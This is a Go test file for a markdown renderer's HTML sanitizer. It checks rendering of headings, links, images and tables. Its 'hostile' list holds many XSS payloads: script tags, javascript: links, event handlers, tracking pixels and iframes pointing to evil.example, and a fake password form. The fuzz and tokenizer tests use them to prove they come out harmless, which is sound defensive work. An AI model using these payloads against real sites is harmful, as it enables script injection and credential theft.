package markdown

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
	"golang.org/x/net/html"
)

func TestMarkdownBecomesHTML(t *testing.T) {
	t.Parallel()
	options := Options{
		Level: 3, Prefix: "doc-", Origin: "https://portal.example.com",
		Link: func(address string) string {
			page, fragment, _ := strings.Cut(address, "#")
			if name, ok := strings.CutSuffix(page, ".md"); ok {
				return "/apis/seamark/" + name + "#" + fragment
			}
			return ""
		},
		Image: func(address string) string {
			if address == "tide.png" {
				return "/images/tide.png"
			}
			return ""
		},
	}
	for name, c := range map[string][2]string{
		"paragraphs and emphasis": {"a *b* **c** ~~d~~ `e<`\n\nf", "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code>e&lt;</code></p>\n<p>f</p>\n"},
		"a heading":               {"# Rate *limits*!", "<h3 id=\"doc-rate-limits\">Rate <em>limits</em>!</h3>\n"},
		"a link within the text":  {"# A b\n[x](#a-b) [y](#A-B) [z](#nowhere)", "<h3 id=\"doc-a-b\">A b</h3>\n<p><a href=\"#doc-a-b\">x</a> <a href=\"#doc-a-b\">y</a> z</p>\n"},
		"a link to another page":  {"[x](pages/a.md#b) [y](c.pdf)", "<p><a href=\"/apis/seamark/pages/a#b\">x</a> y</p>\n"},
		"a link to this portal":   {"[x](https://portal.example.com/apis \"T\")", "<p><a href=\"https://portal.example.com/apis\" title=\"T\">x</a></p>\n"},
		"links to other sites": {
			"[x](https://example.com/?a=b&c) //e.com [y](//e.com/z) [w](https://portal.example.com.evil.com/)",
			"<p><a href=\"https://example.com/?a=b&amp;c\" rel=\"noopener nofollow\">x</a> //e.com <a href=\"//e.com/z\" rel=\"noopener nofollow\">y</a> <a href=\"https://portal.example.com.evil.com/\" rel=\"noopener nofollow\">w</a></p>\n",
		},
		"an address and a mailbox": {
			"https://example.com/a and me@example.com", "<p><a href=\"https://example.com/a\" rel=\"noopener nofollow\">https://example.com/a</a> and <a href=\"mailto:me@example.com\">me@example.com</a></p>\n",
		},
		"an image":                 {"![High *tide*](tide.png \"T\")", "<p><img src=\"/images/tide.png\" alt=\"High tide\" loading=\"lazy\" title=\"T\"/></p>\n"},
		"an image that is missing": {"a ![High tide](missing.png)", "<p>a High tide</p>\n"},
		"an image of another site": {
			"![Tide](https://example.com/a.png) ![](//example.com/b.png)",
			"<p><a href=\"https://example.com/a.png\" rel=\"noopener nofollow\">Tide</a> <a href=\"//example.com/b.png\" rel=\"noopener nofollow\">Image</a></p>\n",
		},
		"a foreign image within a link": {"[![build](https://ci.example/b.svg)](https://ci.example/)", "<p><a href=\"https://ci.example/\" rel=\"noopener nofollow\">build</a></p>\n"},
		"a table": {
			"|a|b|\n|-|-:|\n|1|`x`|",
			"<div class=\"table-scroll\" role=\"group\" aria-label=\"Table\" tabindex=\"0\"><table>\n<thead>\n<tr>\n<th>a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align=\"right\"><code>x</code></td>\n</tr>\n</tbody>\n</table></div>\n",
		},
		"a task list":                 {"- [ ] a\n- [x] b", "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>\n"},
		"code":                        {"```json\n{\"a\": 1}\n```", "<pre><code class=\"language-json\">{<span class=\"hl-name\">&#34;a&#34;</span>: <span class=\"hl-number\">1</span>}\n</code></pre>\n"},
		"code in an unknown language": {"```\"><script>\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>\n"},
		"harmless HTML":               {"a<br>b <kbd>c</kbd>\n\n<details open><summary>d</summary>\n\ne\n\n</details>", "<p>a<br/>b <kbd>c</kbd></p>\n<details open=\"\"><summary>d</summary>\n<p>e</p>\n</details>"},
		"nothing":                     {"", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := string(Render(c[0], options).HTML); got != c[1] {
				t.Errorf("got  %q\nwant %q", got, c[1])
			}
		})
	}
}

func TestHeadingsAreShiftedAndListed(t *testing.T) {
	t.Parallel()
	page := Render("## One\n\n##### Two\n\n## One\n\n## !\n\n### Ünï *cödé* `x`\n\nFour\n---\n\n<h4 id=\"main\">Five</h4>\n\n## One 2\n", Options{})
	want := []Heading{
		{2, "text-one", "One"}, {3, "text-two", "Two"}, {2, "text-one-2", "One"}, {2, "text-section", "!"}, {3, "text-ünï-cödé-x", "Ünï cödé x"},
		{2, "text-four", "Four"}, {3, "text-five", "Five"}, {2, "text-one-2-2", "One 2"},
	}
	if !reflect.DeepEqual(page.Contents, want) {
		t.Errorf("got  %v\nwant %v", page.Contents, want)
	}
	for _, h := range want {
		if tag := fmt.Sprintf(`<h%d id="%s">`, h.Level, h.ID); !strings.Contains(string(page.HTML), tag) {
			t.Errorf("%s is missing in %s", tag, page.HTML)
		}
	}
	for _, h := range Render(strings.Repeat("# a\n## a\n### a\n#### a\n", 2), Options{Level: 5}).Contents {
		if h.Level < 5 || h.Level > 6 {
			t.Errorf("%v, want level 5 or 6", h)
		}
	}
}

// hostile has an attack on each line.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, "<scr<script>ipt>alert(1)</script>", "<script>\n\nalert(1)\n\n</script>",
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, "[x](java\tscript:alert(1))", `[x](&#106;avascript:alert(1))`, `[x](javascript&colon;alert(1))`, `<javascript:alert(1)>`, `[x](vbscript:x)`, `[x](data:text/html,<script>)`, `[x]( javascript:x)`, `[x](\x01javascript:x)`,
	`<a href="javascript:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", `<a href="  javascript:x">x</a>`, "<a href=\"\x01javascript:x\">x</a>", `<a href=x onclick=alert(1)>x</a>`, `<a href=x style="position:fixed;inset:0">x</a>`, `<a href=x target=_top ping=//evil.example>x</a>`, `<a href=x id=main name=location>x</a>`, `<a href="//evil.example" rel=opener>x</a>`,
	`[x][r]` + "\n\n[r]: javascript:alert(1)", `![x](javascript:alert(1))`, `![x](data:image/svg+xml,<svg onload=alert(1)>)`, `![x](https://evil.example/pixel.gif)`, `![x](//evil.example/pixel.gif)`, `![x](\\evil.example/pixel.gif)`, `![x](/\evil.example/p.gif)`, "![x](ht\ttps://evil.example/p)", `![x](http:evil.example)`, `![x](file:///etc/passwd)`,
	`<img src=x onerror=alert(1)>`, `<img src="https://evil.example/p.gif">`, `<img srcset="https://evil.example/p.gif 1x" src=tide.png>`, `<img src=tide.png lowsrc=//evil.example dynsrc=//evil.example>`, `<image src=//evil.example>`, `<input type=image src=//evil.example>`, `<picture><source srcset=//evil.example></picture>`,
	`<style>*{background:url(//evil.example)}</style>`, `<link rel=stylesheet href=//evil.example>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<div style="background:url(//evil.example)">x</div>`, `<table background=//evil.example><tr><td background=//evil.example>x</table>`, `<body onload=alert(1) background=//evil.example>`,
	`<iframe src=//evil.example></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=//evil.example></object>`, `<embed src=//evil.example>`, `<frameset><frame src=//evil.example></frameset>`, `<applet code=x>`, `<portal src=//evil.example>`, `<video src=//evil.example poster=//evil.example autoplay></video>`, `<audio src=//evil.example autoplay>`, `<track src=//evil.example>`,
	`<form action=//evil.example><input name=password><button>Sign in</button></form>`, `<button formaction=//evil.example>x</button>`, `<textarea>`, `<select><option>x</select>`, `<input type=checkbox checked>`, `<label for=main>x</label>`, `<isindex action=//evil.example>`, `<keygen>`,
	`<svg onload=alert(1)>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`, `<math href="javascript:x">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<template><script>x</script></template>`, `<plaintext>`, `<xmp><script>x</script></xmp>`, `<title></title><img src=x onerror=alert(1)>`, `<!--><script>x</script>-->`, `<!-- --!><script>x</script>`, `<![CDATA[<script>x</script>]]>`, `<?php echo 1 ?><script>x</script>`, `<!DOCTYPE html><html><head><body id=x>`,
	`</div></main></body></html><h1>Signed out</h1>`, `</article>`, `<div><b><table><tr><td>`, `<a href=x><a href=y>`, `<p><div></p></div>`, `<h2 id=main class=top>x</h2>`, "# x {#main onclick=alert(1)}", `<h1>unclosed`, `<pre><code>unclosed`, `<details>`, `<b`, `<img src="`, `<!--`, "```", "<div class=\"top\" id=\"reveal\" role=dialog aria-hidden=true tabindex=1 hidden contenteditable draggable data-x=y slot=s is=z>x</div>", `<dialog open>x</dialog>`, `<marquee>x</marquee>`, `<span class="hl-string button">x</span>`, `<code class="language-json button">x</code>`,
	"`<script>`", "    <script>alert(1)</script>", "```html\n<script>alert(1)</script>\n```", "<pre><code class=\"language-html\">&lt;script&gt;</code></pre>", "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|", "\x00<script\x00>alert(1)</script>", "\xff<script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
}

func TestHostileTextIsHarmless(t *testing.T) {
	t.Parallel()
	for _, source := range append(slices.Clone(hostile), strings.Join(hostile, "\n"), strings.Join(hostile, "\n\n"), strings.Join(hostile, " ")) {
		for _, before := range []string{"", "x ", "> ", "- ", "# ", "<div>\n\n", "<a href=y>"} {
			checkHarmless(t, before+source)
		}
	}
}

var options = Options{
	Origin: "https://portal.example.com",
	Image: func(address string) string {
		if address == "tide.png" {
			return "/images/tide.png"
		}
		return address
	},
}

// allowed has the attributes of each element that a page may contain.
var allowed = map[string]string{
	"a": "href title rel", "img": "src alt title width height loading", "abbr": "title", "details": "open", "ol": "start", "th": "align colspan rowspan", "td": "align colspan rowspan",
	"code": "class", "span": "class", "div": "class role aria-label tabindex", "h2": "id", "h3": "id", "h4": "id", "h5": "id", "h6": "id",
	"p": "", "br": "", "hr": "", "blockquote": "", "pre": "", "ul": "", "li": "", "dl": "", "dt": "", "dd": "", "strong": "", "b": "", "em": "", "i": "", "u": "", "del": "", "s": "", "ins": "", "sub": "", "sup": "", "kbd": "",
	"samp": "", "var": "", "mark": "", "small": "", "cite": "", "q": "", "table": "", "caption": "", "thead": "", "tbody": "", "tfoot": "", "tr": "", "summary": "",
}

var (
	classes   = regexp.MustCompile(`^(hl-[a-z]+|table-scroll|language-[A-Za-z0-9#+_-]+)$`)
	addresses = regexp.MustCompile(`^(https?://|mailto:|//|/|#text-|[^:]*$)`)
)

// checkHarmless holds the page to a list of its own, with a tokenizer, as a browser reads it.
func checkHarmless(t *testing.T, source string) {
	t.Helper()
	page := string(Render(source, options).HTML)
	var open []string
	tokens := html.NewTokenizer(strings.NewReader(page))
	for tokens.Next() != html.ErrorToken {
		token := tokens.Token()
		switch token.Type {
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q has a comment: %s", source, page)
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != token.Data {
				t.Fatalf("%q closes what it has not opened: %s", source, page)
			}
			open = open[:len(open)-1]
		case html.StartTagToken, html.SelfClosingTagToken:
			if token.Type == html.StartTagToken {
				open = append(open, token.Data)
			}
			attributes, ok := allowed[token.Data]
			if !ok {
				t.Errorf("%q has a %s: %s", source, token.Data, page)
			}
			for _, a := range token.Attr {
				fine := slices.Contains(strings.Fields(attributes), a.Key)
				switch a.Key {
				case "class":
					fine = fine && classes.MatchString(a.Val)
				case "id":
					fine = fine && strings.HasPrefix(a.Val, "text-")
				case "href":
					fine = fine && addresses.MatchString(a.Val)
				case "src":
					fine = fine && strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") && !strings.Contains(a.Val, `\`)
				}
				if !fine {
					t.Errorf("%q has %s=%q on %s: %s", source, a.Key, a.Val, token.Data, page)
				}
			}
		}
	}
	if len(open) > 0 {
		t.Errorf("%q leaves %v open: %s", source, open, page)
	}
}

func FuzzRender(f *testing.F) {
	for _, source := range hostile {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) {
		checkHarmless(t, source)
		Text(source)
		FirstParagraph(source)
	})
}

func TestTextThatIsNestedTooDeepIsShownAsWritten(t *testing.T) {
	t.Parallel()
	for name, source := range map[string]string{
		"quotes": strings.Repeat("> ", 1000) + "<script>x</script>", "lists": strings.Repeat("- ", 1000) + "<script>", "elements": strings.Repeat("<b><div>", 1000) + "<script>",
	} {
		got := string(Render(source, Options{}).HTML)
		if !strings.HasPrefix(got, "<pre>") || !strings.HasSuffix(got, "</pre>") || strings.Count(got, "<") != 2 {
			t.Errorf("%s: %.100q", name, got)
		}
	}
}

func TestTextThatIsTooLongSaysSo(t *testing.T) {
	t.Parallel()
	got := string(Render(strings.Repeat("tide é ", MaxBytes/8)+"\n\nlow\n\n"+strings.Repeat("high ", MaxBytes/5), Options{}).HTML)
	if len(got) > MaxBytes+1000 || !strings.HasSuffix(got, "<p>This text is longer than 512 KB. The rest is left out.</p>") {
		t.Errorf("%d bytes that end with %q", len(got), got[len(got)-100:])
	}
	checkHarmless(t, strings.Repeat("é", MaxBytes))
}

func TestManyHeadingsOfOneNameHaveIds(t *testing.T) {
	t.Parallel()
	seen := map[string]bool{}
	for _, heading := range Render(strings.Repeat("# a\n# a-2\n", 5000), Options{}).Contents {
		if seen[heading.ID] {
			t.Fatalf("%s is twice in the page", heading.ID)
		}
		seen[heading.ID] = true
	}
}

func TestTextHasNoMarkup(t *testing.T) {
	t.Parallel()
	const source = "# Tides\n\nRead *high* and [low](https://example.com) water,\nby `harbour`.\n\n- one\n- two\n\n|a|b|\n|-|-|\n|c|d|\n\n```go\nx := 1\n```\n<script>alert(1)</script><p>a &amp; b<br>c</p>"
	const want = "Tides\nRead high and low water,\nby harbour.\none\ntwo\na b\nc d\nx := 1\na & b\nc"
	if got := Text(source); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestTheFirstParagraphIsASummary(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"# Tides\n\n![](x.png)\n\nHigh *and*\nlow [water](x).\n\nMore.": "High and low water.",
		"<p>In <b>HTML</b>.</p><p>More.</p>":                            "In HTML.",
		"- a list":                                                      "",
		"":                                                              "",
		"> quoted":                                                      "quoted",
	} {
		if got := FirstParagraph(source); got != want {
			t.Errorf("%q: %q, want %q", source, got, want)
		}
	}
}

func TestDescriptionsOfRealDocumentsAreHarmless(t *testing.T) {
	t.Parallel()
	folder := os.Getenv("GATEHOUSE_SPECS")
	if folder == "" {
		t.Skip("NOT RUN: GATEHOUSE_SPECS is not set")
	}
	files, err := filepath.Glob(filepath.Join(folder, "*.[jy]*"))
	if err != nil || len(files) == 0 {
		t.Fatalf("there are no documents in %s: %v", folder, err)
	}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		var document any
		decode := yaml.Unmarshal
		if strings.HasSuffix(file, ".json") {
			decode = json.Unmarshal
		}
		if err := decode(data, &document); err != nil {
			t.Fatal(err)
		}
		found := map[string]bool{}
		collect(document, found)
		if len(found) == 0 {
			t.Errorf("%s has no descriptions", file)
		}
		for description := range found {
			checkHarmless(t, description)
			if strings.TrimSpace(description) != "" && Text(description) == "" {
				t.Errorf("nothing is left of %q", description)
			}
		}
	}
}

// collect finds the descriptions in a document.
func collect(value any, found map[string]bool) {
	switch value := value.(type) {
	case map[string]any:
		for key, child := range value {
			if text, ok := child.(string); ok && (key == "description" || key == "summary") {
				found[text] = true
			}
			collect(child, found)
		}
	case []any:
		for _, child := range value {
			collect(child, found)
		}
	}
}
